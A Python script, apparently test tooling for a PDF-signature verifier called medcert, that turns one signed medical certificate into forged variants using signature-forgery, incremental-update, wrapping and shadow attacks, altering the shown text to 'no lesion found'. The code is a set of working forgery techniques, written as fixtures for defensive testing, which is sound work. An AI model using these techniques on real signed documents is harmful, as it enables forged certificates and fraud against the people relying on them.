#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""make_attacks.py SIGNED.pdf OUTDIR — the published attack classes on PDF signatures, applied to one
validly signed medcert certificate (standard library only, deterministic: same input, same files).

  usf_*     Universal Signature Forgery: the signature dictionary's /Contents or /ByteRange made missing,
            empty, null, out of range or pointing elsewhere (edited in place, same length, so that the
            xref offsets stay right and only the signature is wrong).
  isa_*     Incremental Saving Attack: an update appended after the signature changes what a reader shows;
            also with the update's xref/trailer removed or its /Prev wrong (readers repair both).
  swa_*     Signature Wrapping: the signed bytes kept under a /ByteRange while the file shown differs.
  shadow_*  Shadow attacks: hide, replace, hide-and-replace, each finished by a later update.
  valid_*   controls.

attacks.expect (next to this script) gives, for every file, the exit code of `medcert verify` and the rule
ids its JSON report must contain.
"""
import os
import re
import sys


def last_object(pdf, number):
    """(start, end) of the last definition of object `number` (end just after "endobj")."""
    matches = list(re.finditer(rb"(?<![0-9])%d 0 obj\b" % number, pdf))
    if not matches:
        raise SystemExit(f"object {number} not found")
    start = matches[-1].start()
    return start, pdf.index(b"endobj", start) + len(b"endobj")


def object_body(pdf, number):
    start, end = last_object(pdf, number)
    return pdf[pdf.index(b"obj", start) + 3:end - len(b"endobj")].strip()


def trailer_value(pdf, key):
    return int(re.findall(rb"/%s (\d+)" % key, pdf[pdf.rindex(b"trailer"):])[-1])


def startxref(pdf):
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def same_length(old, new):
    """`new` padded with spaces to the length of `old` (an in-place edit keeps every offset)."""
    if len(new) > len(old):
        raise SystemExit(f"replacement longer than the original: {new[:40]!r}")
    return new + b" " * (len(old) - len(new))


def edit(pdf, pattern, replacement):
    match = re.search(pattern, pdf)
    if not match:
        raise SystemExit(f"pattern not found: {pattern!r}")
    return pdf[:match.start()] + same_length(match.group(0), replacement) + pdf[match.end():]


def update(pdf, objects, prev=None, full_xref=False, with_xref=True):
    """`pdf` plus an incremental update redefining `objects` {number: body bytes}."""
    size = max(trailer_value(pdf, b"Size"), max(objects) + 1)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        body = objects[number]
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not with_xref:
        return bytes(out)
    xref_at = len(out)
    out += b"xref\n"
    if full_xref:  # a complete table, as a full rewrite has: every object at its latest definition
        out += b"0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            at = offsets.get(number)
            if at is None:
                try:
                    at = last_object(pdf, number)[0]
                except SystemExit:
                    at = None
            out += b"%010d 00000 n \n" % at if at is not None else b"0000000000 65535 f \n"
    else:
        out += b"0 1\n0000000000 65535 f \n"
        for number in sorted(offsets):
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    root = trailer_value(pdf, b"Root")
    prev_text = b"" if full_xref else b"/Prev %d " % (startxref(pdf) if prev is None else prev)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev_text, xref_at)
    return bytes(out)


def stream(data, extra=b""):
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def byte_range(pdf):
    match = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)[-1]
    return [int(n) for n in match]


def attacks(signed):
    size = trailer_value(signed, b"Size")
    root = trailer_value(signed, b"Root")
    catalog = object_body(signed, root)
    pages = int(re.search(rb"/Pages (\d+) 0 R", catalog).group(1))
    kids = re.search(rb"/Kids \[([^\]]*)\]", object_body(signed, pages)).group(1)
    # The page that holds the signature's widget (the last one): the forgeries change what it shows.
    page = next(n for n in map(int, re.findall(rb"(\d+) 0 R", kids)) if b"/Annots" in object_body(signed, n))
    page_body = object_body(signed, page)
    content = int(re.search(rb"/Contents (\d+) 0 R", page_body).group(1))
    widget = int(re.search(rb"/Annots \[ (\d+) 0 R", page_body).group(1))
    signature = int(re.search(rb"/V (\d+) 0 R", object_body(signed, widget)).group(1))
    start, first, hole_end, second = byte_range(signed)
    hole = signed[first:hole_end]
    file_size = len(signed)
    byte_range_text = rb"/ByteRange\s*\[[ 0-9]*\]"
    forged_text = b"BT /F1 14 Tf 72 760 Td (AUCUNE LESION CONSTATEE) Tj ET"
    new_content = {content: stream(forged_text)}
    # An overlay present in the file but used by nothing: a shadow attack's hidden layer.
    overlay = size

    out = {}
    out["valid_signed"] = signed
    out["valid_signed_then_permitted_update"] = update(signed, {widget: object_body(signed, widget)})

    # --- USF: the signature dictionary itself -----------------------------------------------------
    out["usf_contents_removed"] = edit(signed, rb"/Contents\s*<[0-9a-fA-F]*>", b"")
    out["usf_contents_empty"] = edit(signed, rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <>")
    out["usf_contents_zeros"] = signed[:first + 1] + b"0" * (len(hole) - 2) + signed[hole_end - 1:]
    out["usf_contents_not_hex"] = signed[:first + 1] + b"zz" + signed[first + 3:]
    out["usf_byterange_removed"] = edit(signed, byte_range_text, b"")
    out["usf_byterange_empty"] = edit(signed, byte_range_text, b"/ByteRange []")
    out["usf_byterange_zeros"] = edit(signed, byte_range_text, b"/ByteRange [0 0 0 0]")
    out["usf_byterange_null"] = edit(signed, byte_range_text, b"/ByteRange null")
    out["usf_byterange_negative"] = edit(signed, byte_range_text,
                                         b"/ByteRange [0 %d %d -%d]" % (first, hole_end, second))
    out["usf_byterange_beyond_eof"] = edit(signed, byte_range_text,
                                           b"/ByteRange [0 %d %d %d]" % (first, hole_end, second + 1000))
    out["usf_byterange_overlapping"] = edit(signed, byte_range_text,
                                            b"/ByteRange [0 %d %d %d]" % (first, first - 100, file_size - first + 100))
    # Four numbers that cover the whole file except another "<hex>" hole: the trailer's first /ID string.
    other = signed.rindex(b"/ID [ <") + len(b"/ID [ ")
    other_end = signed.index(b">", other) + 1
    out["usf_byterange_other_hole"] = edit(signed, byte_range_text,
                                           b"/ByteRange [0 %d %d %d]" % (other, other_end, file_size - other_end))
    out["usf_filter_changed"] = edit(signed, rb"/Filter /Adobe.PPKLite", b"/Filter /Adobe.PPKMS")
    out["usf_subfilter_changed"] = edit(signed, rb"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /adbe.pkcs7.sha1")
    # The same in a later revision: the signature dictionary redefined without /Contents or /ByteRange.
    sig_body = object_body(signed, signature)
    out["usf_update_no_contents"] = update(signed, {signature: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"", sig_body)})
    out["usf_update_no_byterange"] = update(signed, {signature: re.sub(byte_range_text, b"", sig_body)})

    # --- ISA: what a reader shows, changed in an update after the signature -----------------------
    out["isa_content_changed"] = update(signed, new_content)
    out["isa_annotation_added"] = update(signed, {
        page: page_body.replace(b"/Annots [ %d 0 R ]" % widget, b"/Annots [ %d 0 R %d 0 R ]" % (widget, size)),
        size: b"<< /Type /Annot /Subtype /FreeText /Rect [72 700 500 740] /Contents (Aucune lesion) /DA (/F1 12 Tf) >>"})
    out["isa_acroform_replaced"] = update(signed, {
        root: re.sub(rb"/AcroForm \d+ 0 R", b"/AcroForm %d 0 R" % size, catalog),
        size: b"<< /Fields [ ] >>"})
    out["isa_page_added"] = update(signed, {
        pages: b"<< /Type /Pages /Count 2 /Kids [ %d 0 R %d 0 R ] >>" % (page, size),
        size: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (pages, size + 1),
        size + 1: stream(forged_text)})
    out["isa_content_changed_no_xref"] = update(signed, new_content, with_xref=False)
    out["isa_content_changed_bad_prev"] = update(signed, new_content, prev=12345)

    # --- SWA: signed bytes kept, the file shown differs -------------------------------------------
    # An object inside the /Contents hole (the DER's zero padding overwritten).
    injected = b">\n%d 0 obj (injected) endobj\n<" % size
    at = hole_end - 1 - len(injected) - 2
    out["swa_object_in_hole"] = signed[:at] + injected + signed[at + len(injected):]
    # The signature dictionary copied to a later revision, its /ByteRange still covering the original.
    out["swa_signature_dictionary_moved"] = update(signed, {signature: sig_body, content: stream(forged_text)})
    # Bytes inserted before the signed revision's end, /ByteRange rewritten to skip them as the "hole".
    out["swa_byterange_rewritten"] = edit(signed, byte_range_text,
                                          b"/ByteRange [0 %d %d %d]" % (first, hole_end, second - 100))

    # --- Shadow attacks -----------------------------------------------------------------------------
    out["shadow_hide"] = update(signed, {page: page_body.replace(b"/Contents %d 0 R" % content,
                                                                 b"/Contents [ %d 0 R %d 0 R ]" % (content, overlay)),
                                         overlay: stream(b"1 1 1 rg 0 0 595 842 re f " + forged_text)})
    out["shadow_replace"] = update(signed, {
        widget: re.sub(rb"/N \d+ 0 R", b"/N %d 0 R" % overlay, object_body(signed, widget)),
        overlay: stream(forged_text, b"/Type /XObject /Subtype /Form /BBox [0 0 190 56] ")})
    out["shadow_hide_and_replace"] = update(signed, {root: catalog, **new_content}, full_xref=True)
    return out


def main():
    if len(sys.argv) != 3:
        raise SystemExit(__doc__)
    signed = open(sys.argv[1], "rb").read()
    os.makedirs(sys.argv[2], exist_ok=True)
    for name, data in sorted(attacks(signed).items()):
        with open(os.path.join(sys.argv[2], name + ".pdf"), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
